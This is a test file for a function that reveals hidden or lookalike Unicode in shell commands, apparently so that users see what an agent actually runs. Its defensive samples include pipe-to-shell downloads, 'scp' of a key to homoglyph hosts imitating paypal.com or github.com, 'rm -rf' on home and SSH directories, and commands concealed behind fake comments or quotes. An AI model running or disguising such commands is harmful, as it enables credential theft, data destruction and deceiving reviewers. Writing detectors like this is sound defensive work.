import { describe, expect, it } from 'vitest';
import { revealHidden } from '../../shared/text/revealHidden.ts';
import { sanitizeText } from '../../shared/text/sanitizeText.ts';

const multiline = { multiline: true };
const shell = { multiline: true, shell: true };

describe('revealHidden: what runs, shown as it runs', () => {
  it('writes out a space that is not one, before a "#" that is then no comment to the shell', () => {
    expect(revealHidden('npm test\u00a0# && curl x | sh', multiline)).toBe(
      'npm test⟨U+00A0⟩# && curl x | sh',
    );
    expect(revealHidden('npm test\u2800# ; scp key x:', multiline)).toBe('npm test⟨U+2800⟩# ; scp key x:');
    expect(revealHidden('ok\r# ; echo ran', multiline)).toBe('ok⟨U+000D⟩# ; echo ran');
    for (const space of [
      '\u2002',
      '\u2009',
      '\u200a',
      '\u202f',
      '\u205f',
      '\u3000',
      '\u1680',
      '\u0085',
      '\u2028',
    ])
      expect(revealHidden(`a${space}b`, multiline)).toMatch(/^a⟨U\+[0-9A-F]{4}⟩b$/);
  });

  it('writes out what cleaning would remove, rather than close the gap it leaves', () => {
    expect(revealHidden('ok\u200b# ; echo ran', multiline)).toBe('ok⟨U+200B⟩# ; echo ran');
    expect(revealHidden('rm -rf \u202e/ppa', multiline)).toBe('rm -rf ⟨U+202E⟩/ppa');
    expect(revealHidden('a\u{e0041}b\u0007', multiline)).toBe('a⟨U+E0041⟩b⟨U+0007⟩');
    expect(revealHidden('x\ud800y', multiline)).toBe('x⟨U+D800⟩y');
  });

  it('writes out right-to-left letters, beside which a browser reorders digits', () => {
    expect(revealHidden('iptables -s א 10.0.0.1 ב', multiline)).toBe(
      'iptables -s ⟨U+05D0⟩ 10.0.0.1 ⟨U+05D1⟩',
    );
    expect(revealHidden('echo مرحبا', multiline)).not.toMatch(/[\u0600-\u06ff]/);
  });

  it('keeps plain text, other scripts, newlines and tabs as they are; a line loses its breaks', () => {
    const plain = 'git push origin main\n\tcd /srv/app && ls ./données 日本';
    expect(revealHidden(plain, multiline)).toBe(plain);
    expect(revealHidden('a\nb\tc', { multiline: false })).toBe('a⟨U+000A⟩b⟨U+0009⟩c');
  });

  it('gives clean text: cleaning it changes nothing', () => {
    const revealed = revealHidden('a\u00a0\u200b\u202e\u0000\r\u05d0b\n', multiline);
    expect(sanitizeText(revealed, { maxBytes: 1000, multiline: true })).toEqual({
      text: revealed,
      changed: false,
    });
  });
});

describe('revealHidden: letters that only look Latin', () => {
  it('writes out another script’s letter in a Latin word: an address reads as the one it imitates', () => {
    expect(revealHidden('git push https://gіthub.com/acme/app', multiline)).toBe(
      'git push https://g⟨U+0456⟩thub.com/acme/app',
    );
    // A whole name in Cyrillic still ends in a Latin `.com`.
    expect(revealHidden('curl https://аррӏе.com', multiline)).toBe(
      'curl https://⟨U+0430⟩⟨U+0440⟩⟨U+0440⟩⟨U+04CF⟩⟨U+0435⟩.com',
    );
    expect(revealHidden('scp key pаypal.com:', multiline)).toBe('scp key p⟨U+0430⟩ypal.com:');
    expect(revealHidden('rm -rf ~/.sѕh', multiline)).toBe('rm -rf ~/.s⟨U+0455⟩h');
    expect(revealHidden('ssh οps@host', multiline)).toBe('ssh ⟨U+03BF⟩ps@host');
  });

  it('writes out a compatibility form of a Latin letter: fullwidth, mathematical, a ligature', () => {
    expect(revealHidden('ｒｍ -rf /', multiline)).toBe('⟨U+FF52⟩⟨U+FF4D⟩ -rf /');
    expect(revealHidden('curl 𝐞vil.example', multiline)).toBe('curl ⟨U+1D41E⟩vil.example');
    expect(revealHidden('cat ﬁle', multiline)).toBe('cat ⟨U+FB01⟩le');
  });

  it('writes out a word whose letters are all drawn as ASCII ones, Latin or not', () => {
    expect(revealHidden('рір install requests', multiline)).toBe('⟨U+0440⟩⟨U+0456⟩⟨U+0440⟩ install requests');
    expect(revealHidden('ѕυԁο ср ~/.ѕѕһ x', multiline)).toBe(
      '⟨U+0455⟩⟨U+03C5⟩⟨U+0501⟩⟨U+03BF⟩ ⟨U+0441⟩⟨U+0440⟩ ~/.⟨U+0455⟩⟨U+0455⟩⟨U+04BB⟩ x',
    );
    expect(revealHidden('./ԁерӏоу.ѕһ', multiline)).not.toMatch(/[^\0-\x7f⟨⟩]/);
  });

  it('keeps a word all in another script, and accented Latin, as they are', () => {
    const plain =
      'git commit -m "Исправлено: ошибка" && ls ./données ./日本語 ./ελληνικά ./straße ./Ærø ./Łódź';
    expect(revealHidden(plain, multiline)).toBe(plain);
    // Decomposed accents read as the composed letters do.
    expect(revealHidden('ls ./donne\u0301es', multiline)).toBe('ls ./donne\u0301es');
  });

  it('writes out a Latin letter drawn as an ASCII one, and an accent that makes no letter (review sc)', () => {
    expect(revealHidden('curl https://raw.ɡithubusercontent.com/x', multiline)).toBe(
      'curl https://raw.⟨U+0261⟩ithubusercontent.com/x',
    );
    expect(revealHidden('git remote set-url origin https://github.ᴄom/h3/repo', multiline)).toBe(
      'git remote set-url origin https://github.⟨U+1D04⟩om/h3/repo',
    );
    expect(revealHidden('curl https://gı̇thub.com', multiline)).toBe('curl https://g⟨U+0131⟩⟨U+0307⟩thub.com');
    expect(revealHidden('curl https://gi\u0307thub.com', multiline)).toBe('curl https://gi⟨U+0307⟩thub.com');
  });
});

describe('revealHidden: signs that only look like the shell’s (review sc)', () => {
  it('writes out quotes that are not the shell’s: the text they seem to quote runs', () => {
    expect(revealHidden('git commit -am ˈfix typo; rm -rf ~/work; echo okˈ', shell)).toBe(
      'git commit -am ⟨U+02C8⟩fix typo; rm -rf ~/work; echo ok⟨U+02C8⟩',
    );
    for (const quote of [
      '\ua78c',
      '\u02bc',
      '\u02b9',
      '\u2018',
      '\u2019',
      '\u201c',
      '\u201d',
      '\u00ab',
      '\uff02',
    ])
      expect(revealHidden(`echo ${quote}x; id${quote}`, shell), quote).toMatch(
        /^echo ⟨U\+[0-9A-F]{4}⟩x; id⟨U\+[0-9A-F]{4}⟩$/,
      );
  });

  it('writes out a sign that reads as `#`, `"`, `<<` or `\\`, which hide code from a reader', () => {
    for (const sign of [
      '\uff03',
      '\ufe5f',
      '\u266f',
      '\uff02',
      '\u226a',
      '\uff1c',
      '\u2216',
      '\uff3c',
      '\u01c0',
    ])
      expect(revealHidden(`make ${sign} curl x`, shell), sign).toMatch(/^make ⟨U\+[0-9A-F]{4}⟩ curl x$/);
  });

  it('writes out a mark on nothing, before a `#` that is then no comment, and marks stacked on one letter', () => {
    expect(revealHidden('make \u0301# ; curl x | sh', multiline)).toBe('make ⟨U+0301⟩# ; curl x | sh');
    expect(revealHidden('git status \ufff9# && git push --force', multiline)).toBe(
      'git status ⟨U+FFF9⟩# && git push --force',
    );
    expect(revealHidden('ж\u0316\u0317\u0318\u0319', multiline)).toBe('ж\u0316\u0317⟨U+0318⟩⟨U+0319⟩');
    expect(revealHidden('x\u0316\u0317', multiline)).toBe('x⟨U+0316⟩⟨U+0317⟩');
    expect(revealHidden('\ue000 \u{10ffff}', multiline)).toBe('⟨U+E000⟩ ⟨U+10FFFF⟩');
  });

  it('keeps what reads as itself: emoji, dashes, the ellipsis, arrows, CJK punctuation', () => {
    const plain = 'git commit -m "fix — done… ✅ 🤖 👍🏽 → · 修正しました。「完了」（済）"';
    expect(revealHidden(plain, shell)).toBe(plain);
  });

  it('writes out its own brackets, which the agent cannot then use to fake a written-out character', () => {
    expect(revealHidden('echo ⟨U+0041⟩', shell)).toBe('echo ⟨U+27E8⟩U+0041⟨U+27E9⟩');
  });

  it('keeps signs in what no shell reads: a document’s quotes, arrows and boxes (review rw)', () => {
    const prose = '“Don’t” — see → ✓ ├── src/ ¿ « » ° € ×';
    expect(revealHidden(prose, multiline)).toBe(prose);
    expect(revealHidden(prose, shell)).toMatch(
      /^⟨U\+201C⟩Don⟨U\+2019⟩t⟨U\+201D⟩ — see → ✓ ├── src\/ ¿ ⟨U\+00AB⟩ ⟨U\+00BB⟩ ° € ×$/,
    );
  });
});
